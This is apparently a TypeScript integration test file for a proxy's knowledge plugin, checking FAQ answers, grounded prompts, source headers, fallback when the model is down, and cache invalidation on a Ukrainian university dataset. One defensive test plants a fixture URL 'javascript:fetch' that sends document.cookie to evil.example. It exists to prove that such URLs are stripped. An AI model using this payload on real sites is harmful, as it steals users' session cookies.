/**
 * The knowledge plugin over real HTTP, with the Ollama stand-in and the official `openai`
 * client: curated FAQ answers (and near-misses refused), the grounded prompt the model
 * sees, sources in headers and JSON bodies, answers from the documents while the upstream
 * is down, the cache retired by a document edit, and bad sources named by file:line.
 */
import { cp, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import OpenAI from 'openai';
import { Ollama } from 'ollama';
import { pino } from 'pino';
import YAML from 'yaml';
import { afterEach, describe, expect, it } from 'vitest';
import { isKobzaError, Kernel, parseConfig } from '../../../core/index.js';
import { BUILTIN_PLUGINS } from '../../../cli/builtins.js';
import { startKobza, stopKobzas } from '../../adapters/http/helpers.js';
import { startOllamaStandIn } from '../../servers/ollama.js';

afterEach(stopKobzas);
const dirs: string[] = [];
afterEach(async () => {
  await Promise.all(dirs.splice(0).map((d) => rm(d, { recursive: true, force: true })));
});

const SAMPLE = { sources: ['knowledge/faq.*.yaml', 'knowledge/pages/*.md'] };
const POOL_ANSWER = 'Так, у спорткомплексі університету є 25-метровий басейн; для студентів він безкоштовний за розкладом секцій.';

function client(url: string): OpenAI {
  return new OpenAI({ baseURL: `${url}/v1`, apiKey: 'x', maxRetries: 0 });
}

/** The system text the stand-in received on its last chat call. */
function lastSystemPrompt(calls: { path: string; body: any }[]): string {
  const chat = calls.filter((c) => c.path === '/api/chat').at(-1);
  return (chat?.body.messages as { role: string; content: string }[]).filter((m) => m.role === 'system').map((m) => m.content).join('\n');
}

function parseSourcesHeader(value: string | null): { id: string; title: string; url?: string }[] {
  if (!value) return [];
  return value.split(', ').map((entry) => Object.fromEntries(new URLSearchParams(entry)) as { id: string; title: string; url?: string });
}

describe('curated FAQ', () => {
  it('answers a verified FAQ question from the FAQ, streamed or not, without the model or the cache', async () => {
    const kobza = await startKobza({ plugins: { knowledge: SAMPLE, 'semantic-cache': {} } });
    const openai = client(kobza.url);
    const plain = await openai.chat.completions.create({ model: 'qwen2.5:7b', messages: [{ role: 'user', content: 'Чи є у вас басейн?' }] }).withResponse();
    expect(plain.response.headers.get('x-kobza-source')).toBe('faq');
    expect(plain.data.choices[0].message.content).toBe(POOL_ANSWER);
    expect(parseSourcesHeader(plain.response.headers.get('x-kobza-sources'))).toEqual([{ id: 'pool', title: 'Чи є в університеті басейн?' }]);
    expect((plain.data as unknown as { sources: unknown }).sources).toEqual([{ id: 'pool', title: 'Чи є в університеті басейн?' }]);

    const streamed = await openai.chat.completions.create({ model: 'qwen2.5:7b', messages: [{ role: 'user', content: 'Чи є в університеті басейн?' }], stream: true }).withResponse();
    expect(streamed.response.headers.get('x-kobza-source')).toBe('faq');
    const parts: string[] = [];
    for await (const chunk of streamed.data) parts.push(chunk.choices[0]?.delta.content ?? '');
    expect(parts.filter(Boolean).length).toBeGreaterThan(1);
    expect(parts.join('')).toBe(POOL_ANSWER);

    const english = await openai.chat.completions.create({ model: 'qwen2.5:7b', messages: [{ role: 'user', content: 'Does the university have a pool?' }] });
    expect(english.choices[0].message.content).toContain('25-metre swimming pool');
    expect(kobza.ollama.count('/api/chat')).toBe(0);
    const cache = await (kobza.kernel.container.resolve('SemanticCache') as { ready(): Promise<{ size: number }> }).ready();
    expect(cache.size).toBe(0);
  });

  it('refuses the FAQ answer to a near-miss: an observatory is not a pool', async () => {
    const kobza = await startKobza({ plugins: { knowledge: SAMPLE } });
    const reply = await client(kobza.url).chat.completions.create({ model: 'qwen2.5:7b', messages: [{ role: 'user', content: 'Чи є в університеті обсерваторія?' }] }).withResponse();
    expect(reply.response.headers.get('x-kobza-source')).toBe('provider');
    expect(reply.data.choices[0].message.content).not.toContain('басейн');
    expect(kobza.ollama.count('/api/chat')).toBe(1);
    // Nothing relevant: the model is told the documents do not cover it, and no passage is given.
    const system = lastSystemPrompt(kobza.ollama.calls);
    expect(system).toContain('не містять відповіді');
    expect(system).not.toContain('[1]');
    expect(reply.response.headers.get('x-kobza-sources')).toBeNull();
  });

  it('with whenNotFound: refuse, answers an uncovered question with the polite message and the contact', async () => {
    const kobza = await startKobza({ plugins: { knowledge: { ...SAMPLE, whenNotFound: 'refuse', contact: 'vstup@stepove-university.example' } } });
    const reply = await client(kobza.url).chat.completions.create({ model: 'qwen2.5:7b', messages: [{ role: 'user', content: 'Чи є в університеті обсерваторія?' }] }).withResponse();
    expect(reply.response.headers.get('x-kobza-source')).toBe('knowledge');
    expect(reply.data.choices[0].message.content).toBe('Вибачте, у моїх документах немає відповіді на це запитання. Зверніться, будь ласка: vstup@stepove-university.example.');
    expect(kobza.ollama.count('/api/chat')).toBe(0);
  });
});

describe('grounded generation', () => {
  it('gives the model the numbered passages and returns their sources in the header and the JSON body', async () => {
    const kobza = await startKobza({ plugins: { knowledge: SAMPLE } });
    const reply = await client(kobza.url).chat.completions.create({ model: 'qwen2.5:7b', messages: [{ role: 'user', content: 'Коли зимова сесія?' }] }).withResponse();
    expect(reply.response.headers.get('x-kobza-source')).toBe('provider');
    const system = lastSystemPrompt(kobza.ollama.calls);
    expect(system).toContain('Посилайся на використані джерела як [n]');
    expect(system).toContain('[1] Навчання і студентське життя › Сесії та канікули');
    expect(system).toContain('Зимова екзаменаційна сесія триває з 8 по 26 січня');
    const sources = parseSourcesHeader(reply.response.headers.get('x-kobza-sources'));
    expect(sources[0]).toEqual({ id: 'pages/student-life.md#сесії-та-канікули', title: 'Навчання і студентське життя › Сесії та канікули', url: 'https://stepove-university.example/studentam' });
    expect((reply.data as unknown as { sources: unknown[] }).sources[0]).toEqual(sources[0]);
    // The client's question is the last message, unchanged; the deployment's prompt stays first.
    const messages = kobza.ollama.calls.find((c) => c.path === '/api/chat')!.body.messages as { role: string; content: string }[];
    expect(messages.at(-1)).toEqual({ role: 'user', content: 'Коли зимова сесія?' });
  });

  it('sends the sources header on streamed answers and the field on Ollama-API JSON answers', async () => {
    const kobza = await startKobza({ plugins: { knowledge: SAMPLE } });
    const streamed = await client(kobza.url).chat.completions.create({ model: 'qwen2.5:7b', messages: [{ role: 'user', content: 'Коли зимова сесія?' }], stream: true }).withResponse();
    for await (const _chunk of streamed.data) void _chunk;
    expect(parseSourcesHeader(streamed.response.headers.get('x-kobza-sources'))[0]?.id).toBe('pages/student-life.md#сесії-та-канікули');
    const response = await fetch(`${kobza.url}/api/chat`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ model: 'qwen2.5:7b', stream: false, messages: [{ role: 'user', content: 'Коли зимова сесія?' }] }) });
    const body = (await response.json()) as { sources: { id: string }[] };
    expect(body.sources[0].id).toBe('pages/student-life.md#сесії-та-канікули');
    const parts: string[] = [];
    for await (const part of await new Ollama({ host: kobza.url }).chat({ model: 'qwen2.5:7b', messages: [{ role: 'user', content: 'Чи є у вас басейн?' }], stream: true })) parts.push(part.message.content);
    expect(parts.join('')).toBe(POOL_ANSWER);
  });
});

describe('no model reachable', () => {
  it('answers from the documents with the source and a line saying the model is unavailable; errors only when nothing matches', async () => {
    const down = await startOllamaStandIn();
    await down.close();
    const kobza = await startKobza({ standIn: down, plugins: { knowledge: SAMPLE } });
    const openai = client(kobza.url);
    const reply = await openai.chat.completions.create({ model: 'qwen2.5:7b', messages: [{ role: 'user', content: 'Коли зимова сесія?' }] }).withResponse();
    expect(reply.response.headers.get('x-kobza-source')).toBe('knowledge');
    const text = reply.data.choices[0].message.content ?? '';
    expect(text).toContain('Зимова екзаменаційна сесія триває з 8 по 26 січня');
    expect(text).toContain('Джерело: [1] Навчання і студентське життя › Сесії та канікули');
    expect(text).toContain('Мовна модель зараз недоступна');

    const english = await openai.chat.completions.create({ model: 'qwen2.5:7b', messages: [{ role: 'user', content: 'When can international students apply?' }] });
    expect(english.choices[0].message.content).toContain('1 March to 1 September');
    expect(english.choices[0].message.content).toContain('The language model is unavailable');

    const failure = await openai.chat.completions.create({ model: 'qwen2.5:7b', messages: [{ role: 'user', content: 'Яка погода в Парижі завтра?' }] }).catch((err: unknown) => err);
    expect(failure).toBeInstanceOf(OpenAI.APIError);
    expect((failure as InstanceType<typeof OpenAI.APIError>).status).toBe(503);
    expect(JSON.stringify((failure as InstanceType<typeof OpenAI.APIError>).error)).toContain('UPSTREAM_UNAVAILABLE');
  });

  it('quotes only what agrees with the question: a verified FAQ as `faq`, a passage as `knowledge`, never a near miss', async () => {
    const down = await startOllamaStandIn();
    await down.close();
    const kobza = await startKobza({ standIn: down, plugins: { knowledge: SAMPLE } });
    const openai = client(kobza.url);
    const ask = (content: string) => openai.chat.completions.create({ model: 'qwen2.5:7b', messages: [{ role: 'user', content }] }).withResponse();
    const refused = async (content: string) => {
      const failure = await ask(content).catch((err: unknown) => err);
      expect(failure).toBeInstanceOf(OpenAI.APIError);
      expect((failure as InstanceType<typeof OpenAI.APIError>).status).toBe(503);
      expect(JSON.stringify((failure as InstanceType<typeof OpenAI.APIError>).error)).toContain('UPSTREAM_UNAVAILABLE');
    };

    // PhD fees: the documents only give the bachelor's and master's fees — no answer rather than the wrong one.
    await refused('Скільки коштує навчання в аспірантурі?');

    // When does the campaign END: not the FAQ about when it starts; the page's sentence with the whole period.
    const end = await ask('Коли закінчується вступна кампанія?');
    expect(end.response.headers.get('x-kobza-source')).toBe('knowledge');
    const endText = end.data.choices[0].message.content ?? '';
    expect(endText).toContain('Вступна кампанія на бакалаврат триває з 1 по 31 липня.');
    expect(endText).not.toContain('електронний кабінет вступника'); // the FAQ answer's wording
    expect(endText).not.toContain('відкривається 24 червня'); // a start, not an end
    expect(endText).toContain('Джерело: [1] Вступ до СДУ › Терміни вступної кампанії');

    // A degree the question names picks its own sentence of a passage that names several.
    const master = await ask('Скільки коштує навчання в магістратурі?');
    expect(master.response.headers.get('x-kobza-source')).toBe('knowledge');
    expect(master.data.choices[0].message.content).toContain('Навчання в магістратурі коштує 45 000 грн на рік.');
    expect(master.data.choices[0].message.content).not.toContain('38 000');

    // A verified FAQ question is still answered from the FAQ, as written.
    const faq = await ask('Скільки коштує навчання на бакалавраті?');
    expect(faq.response.headers.get('x-kobza-source')).toBe('faq');
    expect(faq.data.choices[0].message.content).toContain('Навчання на бакалавраті за контрактом коштує 38 000 грн на рік');

    // A question answered by a passage is still answered from it.
    const session = await ask('Коли літня сесія?');
    expect(session.response.headers.get('x-kobza-source')).toBe('knowledge');
    expect(session.data.choices[0].message.content).toContain('літня — з 2 по 20 червня');
    expect(session.data.choices[0].message.content).toContain('Мовна модель зараз недоступна');
  });
});

describe('sources and the cache', () => {
  async function sampleCopy(): Promise<string> {
    const dir = await mkdtemp(path.join(os.tmpdir(), 'kobza-knowledge-http-'));
    dirs.push(dir);
    await cp('knowledge', path.join(dir, 'knowledge'), { recursive: true });
    return dir;
  }

  it('retires cached answers when a document changes (the namespace includes the knowledge version)', async () => {
    const dir = await sampleCopy();
    const ollama = await startOllamaStandIn();
    const knowledge = { sources: [path.join(dir, 'knowledge/pages/*.md')] };
    const cache = { store: `sqlite://${path.join(dir, 'cache.sqlite')}` };
    const ask = async (url: string) => (await client(url).chat.completions.create({ model: 'qwen2.5:7b', messages: [{ role: 'user', content: 'Коли зимова сесія?' }] }).withResponse()).response.headers.get('x-kobza-source');
    try {
      let kobza = await startKobza({ standIn: ollama, plugins: { knowledge, 'semantic-cache': cache } });
      expect(await ask(kobza.url)).toBe('provider');
      expect(await ask(kobza.url)).toBe('cache');
      await stopKobzas();
      kobza = await startKobza({ standIn: ollama, plugins: { knowledge, 'semantic-cache': cache } });
      expect(await ask(kobza.url)).toBe('cache');
      await stopKobzas();
      const file = path.join(dir, 'knowledge/pages/student-life.md');
      const { readFile } = await import('node:fs/promises');
      await writeFile(file, (await readFile(file, 'utf8')).replace('з 8 по 26 січня', 'з 9 по 27 січня'));
      kobza = await startKobza({ standIn: ollama, plugins: { knowledge, 'semantic-cache': cache } });
      expect(await ask(kobza.url)).toBe('provider');
      expect(lastSystemPrompt(ollama.calls)).toContain('з 9 по 27 січня');
      expect(ollama.count('/api/chat')).toBe(2);
    } finally {
      await stopKobzas();
      await ollama.close();
    }
  });

  it('never hands a client a source URL that is not http(s) (header and `sources` field)', async () => {
    const dir = await mkdtemp(path.join(os.tmpdir(), 'kobza-knowledge-http-'));
    dirs.push(dir);
    await writeFile(path.join(dir, 'faq.yaml'), '- id: evil\n  q: Чи є в університеті басейн?\n  a: Так, є басейн.\n  url: javascript:fetch(\'//evil.example/\'+document.cookie)\n');
    await writeFile(path.join(dir, 'page.md'), '---\nurl: javascript:alert(1)\n---\n# Сесія\n\nЗимова сесія триває з 8 по 26 січня.\n');
    const kobza = await startKobza({ plugins: { knowledge: { sources: [path.join(dir, 'faq.yaml'), path.join(dir, 'page.md')] } } });
    for (const question of ['Чи є в університеті басейн?', 'Коли зимова сесія?']) {
      const reply = await client(kobza.url).chat.completions.create({ model: 'qwen2.5:7b', messages: [{ role: 'user', content: question }] }).withResponse();
      const header = reply.response.headers.get('x-kobza-sources');
      const sources = (reply.data as unknown as { sources: { id: string; url?: string }[] }).sources;
      expect(sources.length).toBeGreaterThan(0);
      expect(parseSourcesHeader(header).map((s) => s.id)).toEqual(sources.map((s) => s.id));
      expect(sources.every((s) => s.url === undefined)).toBe(true);
      expect(`${header} ${JSON.stringify(reply.data)}`).not.toContain('javascript');
    }
    const system = lastSystemPrompt(kobza.ollama.calls);
    expect(system).toContain('з 8 по 26 січня');
    expect(system).not.toContain('javascript');
  });

  it('stops start-up naming a bad source by file and line', async () => {
    const dir = await sampleCopy();
    await writeFile(path.join(dir, 'knowledge/broken.yaml'), '- q: Де гуртожиток?\n  a: Садова, 12.\n- q: Коли сесія?\n');
    const yaml = YAML.stringify({
      assistant: { model: 'qwen2.5:7b' },
      plugins: { ollama: { host: 'http://127.0.0.1:9', probeOnStart: false }, knowledge: { sources: ['knowledge/pages/*.md', 'knowledge/missing.md', 'knowledge/broken.yaml', 'knowledge/none/*.md'] } },
    });
    const file = path.join(dir, 'kobza.yaml');
    await writeFile(file, yaml);
    const lineOf = (text: string) => yaml.split('\n').findIndex((l) => l.includes(text)) + 1;
    const error = await Kernel.create(parseConfig(yaml, { file, env: {} }), { builtins: BUILTIN_PLUGINS, logger: pino({ level: 'silent' }) }).catch((err: unknown) => err);
    expect(isKobzaError(error, 'CONFIG_INVALID')).toBe(true);
    expect((error as Error).message.split('\n')).toEqual([
      `${file}:${lineOf('knowledge/missing.md')}: plugins.knowledge.sources[1]: file not found: ${path.join(dir, 'knowledge/missing.md')}`,
      `${file}:${lineOf('knowledge/none/*.md')}: plugins.knowledge.sources[3]: the glob "knowledge/none/*.md" matches no file`,
      `${path.join(dir, 'knowledge/broken.yaml')}:3: plugins.knowledge.sources[2]: entry 2: a is required (expected the answer text), got nothing`,
    ]);
  });
});
